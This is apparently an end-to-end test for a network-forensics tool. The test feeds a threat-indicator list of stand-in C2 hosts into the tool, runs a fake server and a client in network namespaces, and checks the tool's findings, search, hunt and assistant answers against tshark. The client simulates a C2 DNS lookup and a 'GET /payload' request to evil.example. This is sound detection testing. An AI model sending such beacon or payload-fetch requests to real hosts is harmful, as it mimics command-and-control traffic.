"""From the operator's list to a finding, a search, a hunt and an assistant's answer: real packets, and tshark agrees."""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from mcp import Client, StdioServerParameters, stdio_client

from tests.e2e.conftest import requires_root
from tests.e2e.machine import Machine, Network, evidence_files, falco_event, tshark, wait_for

pytestmark = [pytest.mark.root, requires_root, pytest.mark.timeout(120)]

LIST = """# what somebody else saw
10.66.0.2
c2.example # C2
http://evil.example:8080/payload
fine.example
"""
SERVER = """
import socket, threading
l = socket.create_server(("10.66.0.2", 8080))
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); d.bind(("10.66.0.2", 53))
def dns():
    while True:
        q, who = d.recvfrom(512)
        d.sendto(q[:2] + b"\\x81\\x80" + q[4:6] + b"\\0\\1\\0\\0\\0\\0" + q[12:] + b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\x3c\\0\\4\\xcb\\0\\x71\\x42", who)
threading.Thread(target=dns, daemon=True).start()
print("up", flush=True)
while True:
    c, _ = l.accept(); c.recv(999); c.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 2\\r\\n\\r\\nok"); c.close()
"""
CLIENT = """
import socket, time
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); d.settimeout(10)
d.sendto(b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3www\\2c2\\7example\\0\\0\\1\\0\\1", ("10.66.0.2", 53)); d.recv(512)
s = socket.create_connection(("10.66.0.2", 8080)); t = time.time_ns()
s.sendall(b"GET /payload?q=1 HTTP/1.1\\r\\nHost: evil.example:8080\\r\\nUser-Agent: evil/1\\r\\n\\r\\n"); s.recv(999)
print(s.getsockname()[1], t, flush=True)
"""


async def test_from_a_list_to_an_answer(
    machine: Callable[..., Machine], network: Network, tmp_path: Path
) -> None:
    """What the list names is a checked finding whose frames tshark shows; search, hunt and assistant say the same."""
    lists = tmp_path.parent / f"lists-{network.prefix}"
    lists.mkdir()
    (lists / "c2.txt").write_text(LIST)
    for folder in (lists, *lists.parents[:3]):
        folder.chmod(0o755)  # the responder is not root
    tripshark = machine(
        recorder={"include": [f"ts-{network.prefix}-*"]},
        indicators=[str(lists)],
        targets={
            "static": [
                {
                    "netns": f"ts-{network.prefix}-pod",
                    "namespace": "payments",
                    "pod": "checkout-7d9f",
                }
            ]
        },
        rules_text='- rule: all\n  match: {rules: ["Outbound Connection to C2 Servers"]}\n  capture: {scope: pod, before: 20s, after: 200ms}\n',
    )
    far, pod = network.namespace("far"), network.namespace("pod")
    network.veth(pod, far)
    tripshark.wait_recorded(pod)
    network.python(far, SERVER).stdout.readline()  # type: ignore[union-attr]
    client = network.python(pod, CLIENT)
    port, t0_ns = map(int, client.stdout.readline().split())  # type: ignore[union-attr]
    tripshark.post(falco_event(time_ns=t0_ns, connection=f"10.66.0.1:{port}->10.66.0.2:8080"))
    (incident,) = tripshark.wait_sealed()
    id, (path,) = str(incident["id"]), evidence_files(incident)
    companion = Path(str(incident["folder"])) / "findings.json"
    wait_for(companion.exists, "findings")
    told: dict[str, Any] = json.loads(companion.read_text())
    found = {
        each["about"]["indicator"]: each
        for each in told["findings"]
        if each["kind"] == "indicator"
    }
    assert set(found) == {"10.66.0.2", "c2.example", "http://evil.example:8080/payload"}
    for each in found.values():
        assert each["checked"]
        shown = [
            int(line)
            for line in tshark(path, "-Y", each["filter"], "-T", "fields", "-e", "frame.number")
        ]
        assert set(each["frames"]) <= set(shown)
        assert each["matches"] == len(shown)
    assert "C2" in found["c2.example"]["text"]

    def hits(asked: str) -> list[dict[str, Any]]:
        return list(tripshark.get(f"/v1/search?q={asked}")["hits"])  # type: ignore[call-overload]

    (name,) = wait_for(lambda: hits("*.c2.example"), "the index to be filled")
    assert (name["incident"], name["kind"], name["target"]) == (
        id,
        "dns",
        "payments/checkout-7d9f",
    )
    assert (
        tshark(path, "-Y", name["filter"], "-T", "fields", "-e", "dns.qry.name")[0]
        == "www.c2.example"
    )
    assert {each["kind"] for each in hits("203.0.113.66")} == {"address"}  # in the answer alone
    hunt = tripshark.tripshark("hunt", str(lists), "--config", str(tripshark.config), "--json")
    assert {json.loads(line)["indicator"] for line in hunt.stdout.splitlines()} == set(found)
    (lists / "c2.txt").write_text("user_agent:evil/1\nfine.example\n")
    later = tripshark.tripshark("hunt", str(lists), "--config", str(tripshark.config), "--json")
    assert json.loads(later.stdout)["indicator"] == "user_agent:evil/1"
    argv = ["-m", "tripshark", "mcp", "--config", str(tripshark.config)]
    async with Client(
        stdio_client(StdioServerParameters(command=sys.executable, args=argv))
    ) as assistant:
        answer = await assistant.call_tool("findings", {"id": id, "kind": "indicator"})
        assert len(answer.structured_content["findings"]) == 3  # type: ignore[index]
        answer = await assistant.call_tool(
            "packets", {"id": id, "filter": found["c2.example"]["filter"]}
        )
        listed = answer.structured_content
        assert not answer.is_error, answer.content
        assert listed["evidence"]["manifest_sha256"] == incident["manifest_sha256"]  # type: ignore[index]
        assert "www.c2.example" in json.dumps(listed["packets"])  # type: ignore[index]
        frame = listed["packets"][0]["frame"]  # type: ignore[index]
        answer = await assistant.call_tool("packet", {"id": id, "frame": frame})
        assert any(
            "Domain Name System" in line
            for line in answer.structured_content["untrusted"]["fields"]
        )  # type: ignore[index]
        report = await assistant.read_resource(f"tripshark://incidents/{id}/report")
        assert "c2.example" in report.contents[0].text  # type: ignore[union-attr]
